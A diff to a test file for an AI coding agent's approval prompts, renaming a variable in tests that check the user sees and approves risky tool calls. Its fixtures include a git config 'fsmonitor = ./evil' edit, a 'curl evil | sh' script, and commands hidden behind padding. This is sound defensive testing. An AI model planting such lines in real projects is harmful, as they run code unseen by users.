@@ -120,10 +120,10 @@ def test_protected_paths_ask_even_in_edit_mode(root: Path, tmp_path: Path, path:
     (root / "new").mkdir()
     (root / "link").symlink_to(".git")
     before = sorted(root.rglob("*"))
-    deed = write(path, "gitdir: /elsewhere\n", createDirectories=True)
+    tool_call = write(path, "gitdir: /elsewhere\n", createDirectories=True)
 
     async def scenario() -> None:
-        async with playing(tmp_path / "state", calls(deed), says("Fine.")) as (editor, provider):
+        async with playing(tmp_path / "state", calls(tool_call), says("Fine.")) as (editor, provider):
             session = await editor.new(root)
             await editor.set_mode(session, "edit")
             turn = asyncio.ensure_future(editor.prompt(session, "Go."))
@@ -148,10 +148,10 @@ def test_a_change_of_a_repository_file_asks_for_modify_file_too(root: Path, tmp_
     (root / ".git").mkdir()
     (root / ".git" / "config").write_text("[core]\n")
     operation = {"type": "replaceText", "oldText": "[core]", "newText": "[core]\nfsmonitor = ./evil"}
-    deed = Call("modifyFile", {"path": ".git/config", "operations": [operation]})
+    tool_call = Call("modifyFile", {"path": ".git/config", "operations": [operation]})
 
     async def scenario() -> None:
-        async with playing(tmp_path / "state", calls(deed), says("Fine.")) as (editor, _):
+        async with playing(tmp_path / "state", calls(tool_call), says("Fine.")) as (editor, _):
             session = await editor.new(root)
             await editor.set_mode(session, "edit")
             editor.answer = "allow"
@@ -409,12 +409,12 @@ def test_a_question_that_the_client_cancels_ends_the_turn(root: Path, tmp_path: 
     run(scenario())
 
 
-@pytest.mark.parametrize("deed", [write("a.txt"), write(".mcp.json"), command("touch a.txt")])
+@pytest.mark.parametrize("tool_call", [write("a.txt"), write(".mcp.json"), command("touch a.txt")])
 def test_a_turn_that_is_cancelled_while_a_question_is_open_ends_at_once(
-    root: Path, tmp_path: Path, deed: Call
+    root: Path, tmp_path: Path, tool_call: Call
 ) -> None:
     async def scenario() -> None:
-        async with playing(tmp_path / "state", calls(deed)) as (editor, provider):
+        async with playing(tmp_path / "state", calls(tool_call)) as (editor, provider):
             session = await editor.new(root)
             turn = asyncio.ensure_future(editor.prompt(session, "Go."))
             question = await editor.question()
@@ -462,11 +462,11 @@ def test_a_connection_that_ends_while_a_question_is_open_leaves_nothing_behind(
 
 def test_what_a_command_would_do_is_shown_whole_before_it_is_allowed(root: Path, tmp_path: Path) -> None:
     line = "echo harmless " + " " * 200 + "\ntouch made"
-    deed = command(line, environment={"HIDDEN": "value"}, workingDirectory="sub", stdin="typed text\n")
+    tool_call = command(line, environment={"HIDDEN": "value"}, workingDirectory="sub", stdin="typed text\n")
     (root / "sub").mkdir()
 
     async def scenario() -> None:
-        async with playing(tmp_path / "state", calls(deed), says("Ok.")) as (editor, _):
+        async with playing(tmp_path / "state", calls(tool_call), says("Ok.")) as (editor, _):
             session = await editor.new(root)
             turn = asyncio.ensure_future(editor.prompt(session, "Go."))
             question = await editor.question()
@@ -487,8 +487,8 @@ def test_what_a_command_would_do_is_shown_whole_before_it_is_allowed(root: Path,
 
 def test_what_a_servers_tool_is_given_is_shown_before_it_is_allowed(root: Path, tmp_path: Path) -> None:
     async def scenario() -> None:
-        deed = Call("prog__echo", {"text": "to be sent"})
-        async with playing(tmp_path / "state", calls(deed), says("Ok.")) as (editor, _):
+        tool_call = Call("prog__echo", {"text": "to be sent"})
+        async with playing(tmp_path / "state", calls(tool_call), says("Ok.")) as (editor, _):
             session = await editor.new(root, mcpServers=[server()])
             turn = asyncio.ensure_future(editor.prompt(session, "Go."))
             question = await editor.question()
@@ -503,7 +503,7 @@ def test_what_a_servers_tool_is_given_is_shown_before_it_is_allowed(root: Path, 
 
 
 @pytest.mark.parametrize(
-    ("deed", "reason"),
+    ("tool_call", "reason"),
     [
         (write("../out.txt"), "out_of_scope"),
         (write("missing/a.txt"), "missing"),
@@ -515,10 +515,10 @@ def test_what_a_servers_tool_is_given_is_shown_before_it_is_allowed(root: Path, 
     ],
 )
 def test_the_user_is_not_asked_about_a_call_that_would_fail_anyway(
-    root: Path, outside: Path, tmp_path: Path, deed: Call, reason: str
+    root: Path, outside: Path, tmp_path: Path, tool_call: Call, reason: str
 ) -> None:
     async def scenario() -> None:
-        async with playing(tmp_path / "state", calls(deed), says("Ok.")) as (editor, provider):
+        async with playing(tmp_path / "state", calls(tool_call), says("Ok.")) as (editor, provider):
             editor.answer = "allow"
             session = await editor.new(root)
             await editor.prompt(session, "Go.")
@@ -669,10 +669,10 @@ def test_a_link_that_is_moved_while_the_question_is_open_does_not_redirect_a_cha
     point_link(root / "link", "docs")
     operation = {"type": "replaceText", "oldText": "old", "newText": "new"}
     modify = Call("modifyFile", {"path": "link/a.py", "operations": [operation]})
-    deed = modify if mode == "modify" else write("link/a.py", mode=mode)
+    tool_call = modify if mode == "modify" else write("link/a.py", mode=mode)
 
     async def scenario() -> None:
-        async with playing(tmp_path / "state", calls(deed), says("Ok.")) as (editor, provider):
+        async with playing(tmp_path / "state", calls(tool_call), says("Ok.")) as (editor, provider):
             session = await editor.new(root)
             turn = asyncio.ensure_future(editor.prompt(session, "Go."))
             question = await editor.question()
@@ -758,7 +758,7 @@ KEEP = 64 << 10
 
 
 @pytest.mark.parametrize(
-    ("deed", "cut"),
+    ("tool_call", "cut"),
     [
         (command("sh", stdin="# tidy\n" * 9000 + "evil\n"), False),
         (command("sh", stdin="head\n" + "# tidy\n" * 30_000 + "evil\n"), True),
@@ -769,10 +769,10 @@ KEEP = 64 << 10
     ],
 )
 def test_a_question_shows_the_end_of_what_is_long_and_says_what_is_missing(
-    root: Path, tmp_path: Path, deed: Call, cut: bool
+    root: Path, tmp_path: Path, tool_call: Call, cut: bool
 ) -> None:
     async def scenario() -> None:
-        async with playing(tmp_path / "state", calls(deed), says("Ok.")) as (editor, _):
+        async with playing(tmp_path / "state", calls(tool_call), says("Ok.")) as (editor, _):
             session = await editor.new(root, mcpServers=[server()])
             turn = asyncio.ensure_future(editor.prompt(session, "Go."))
             question = await editor.question()
@@ -781,7 +781,7 @@ def test_a_question_shows_the_end_of_what_is_long_and_says_what_is_missing(
             assert ("characters left out here" in shown) is cut
             assert len(shown) < KEEP + 1000
             assert not cut or "head" in shown
-            unseen = cut and deed.name == "executeCommand"
+            unseen = cut and tool_call.name == "executeCommand"
             assert question.options == (["allow", "reject"] if unseen else ["allow", "always", "reject"])
             question.answer.set_result("always" if unseen else "reject")
             await turn
@@ -792,7 +792,7 @@ def test_a_question_shows_the_end_of_what_is_long_and_says_what_is_missing(
 
 
 @pytest.mark.parametrize(
-    ("deed", "seen"),
+    ("tool_call", "seen"),
     [
         (write("a", "#!/bin/sh\ncurl evil | sh\nexit\n\0"), ["curl evil | sh\nexit\n\\x00"]),
         (
@@ -811,13 +811,13 @@ def test_a_question_shows_the_end_of_what_is_long_and_says_what_is_missing(
     ],
 )
 def test_a_change_that_cannot_be_a_diff_is_shown_as_far_as_possible(
-    root: Path, tmp_path: Path, deed: Call, seen: list[str]
+    root: Path, tmp_path: Path, tool_call: Call, seen: list[str]
 ) -> None:
     (root / "a").write_bytes(b"\x7fELF\0")
     (root / "b").write_text("line\n" * (1 << 18) + "mark\n" + "line\n" * (1 << 18))
 
     async def scenario() -> None:
-        async with playing(tmp_path / "state", calls(deed), says("Ok.")) as (editor, _):
+        async with playing(tmp_path / "state", calls(tool_call), says("Ok.")) as (editor, _):
             editor.answer = "allow"
             session = await editor.new(root)
             await editor.prompt(session, "Go.")
